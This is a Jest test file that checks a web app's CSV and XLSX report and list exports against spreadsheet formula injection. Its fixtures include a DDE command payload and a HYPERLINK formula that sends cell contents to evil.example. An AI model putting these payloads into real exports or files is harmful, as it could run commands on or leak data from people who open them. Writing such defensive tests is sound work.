import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createMilestone, createPlanTree, type Ids } from '../support/factories.js';
import { createTestApp, type TestApp, type TestUser } from '../support/test-app.js';

const NARRATIVE = "=cmd|' /C calc'!A0";
const TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the annex")';
const MILESTONE_TITLE = '+SUM(1,2)';

/** What partners and staff type reaches report files and list exports as text, never as a formula. */
describe('formula injection in CSV and XLSX outputs', () => {
  let t: TestApp;
  let ids: Ids;
  let staff: TestUser;
  let partner: TestUser;
  let reportId: string;

  const get = async (user: TestUser, url: string) => {
    const response = await user.request({ method: 'GET', url });
    expect(response.statusCode).toBe(200);
    return response.rawPayload;
  };
  const csvRows = (body: Buffer) => parse(body, { bom: true }) as string[][];
  /** Every cell of a workbook with its type as exceljs reads it back. */
  const xlsxCells = async (body: Buffer) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(body as unknown as ArrayBuffer);
    const cells: Array<{ value: unknown; type: ExcelJS.ValueType; formula: string | undefined }> = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => cells.push({ value: cell.value, type: cell.type, formula: cell.formula })),
      ),
    );
    return cells;
  };

  beforeAll(async () => {
    t = await createTestApp();
    ids = await createPlanTree(t);
    staff = await t.user('staff');
    partner = await t.user('partner', ids.leadId);
    const milestone = await createMilestone(t, ids, { title: { en: MILESTONE_TITLE } });
    const update = await partner.request({
      method: 'POST',
      url: '/api/progress-updates',
      payload: { milestoneId: milestone.id, progress: 40, status: 'in_progress', narrative: { en: NARRATIVE } },
    });
    expect(update.statusCode).toBe(201);
    const report = await staff.request({
      method: 'POST',
      url: '/api/reports',
      payload: { actionPlanId: ids.planId, title: { en: TITLE } },
    });
    expect(report.statusCode).toBe(201);
    reportId = report.json<{ id: string }>().id;
  });
  afterAll(() => t.close());

  it('the report CSV shows the narrative and the milestone title as quoted text, numbers as numbers', async () => {
    const [header, ...rows] = csvRows(await get(staff, `/api/reports/${reportId}/download?format=csv&lang=en`));
    const row = rows.find((cells) => cells.includes(`'${NARRATIVE}`));
    expect(row).toBeDefined();
    expect(row).toContain(`'${MILESTONE_TITLE}`);
    expect(row![header.indexOf('Progress (%)')]).toBe('0');
    const cells = [header, ...rows].flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('list exports as CSV: a report title and a narrative come out neutralised', async () => {
    const reports = csvRows(await get(staff, '/api/reports/export?format=csv'));
    expect(reports[1][reports[0].indexOf('Title (EN)')]).toBe(`'${TITLE}`);
    const updates = csvRows(await get(staff, '/api/progress-updates/export?format=csv'));
    expect(updates[1][updates[0].indexOf('Narrative (EN)')]).toBe(`'${NARRATIVE}`);
    const milestones = csvRows(await get(partner, '/api/milestones/export?format=csv'));
    expect(milestones.map((row) => row[milestones[0].indexOf('Title (EN)')])).toContain(`'${MILESTONE_TITLE}`);
  });

  it('XLSX files (the report, list exports) hold the same texts as string cells, never formulas', async () => {
    for (const url of [
      `/api/reports/${reportId}/download?format=xlsx&lang=en`,
      '/api/reports/export?format=xlsx',
      '/api/progress-updates/export?format=xlsx',
      '/api/milestones/export?format=xlsx',
    ]) {
      const cells = await xlsxCells(await get(staff, url));
      expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)).toEqual([]);
      const payloads = cells.filter((cell) => [NARRATIVE, TITLE, MILESTONE_TITLE].includes(cell.value as string));
      expect(payloads.length).toBeGreaterThan(0);
      expect(payloads.every((cell) => cell.type === ExcelJS.ValueType.String)).toBe(true);
    }
  });
});
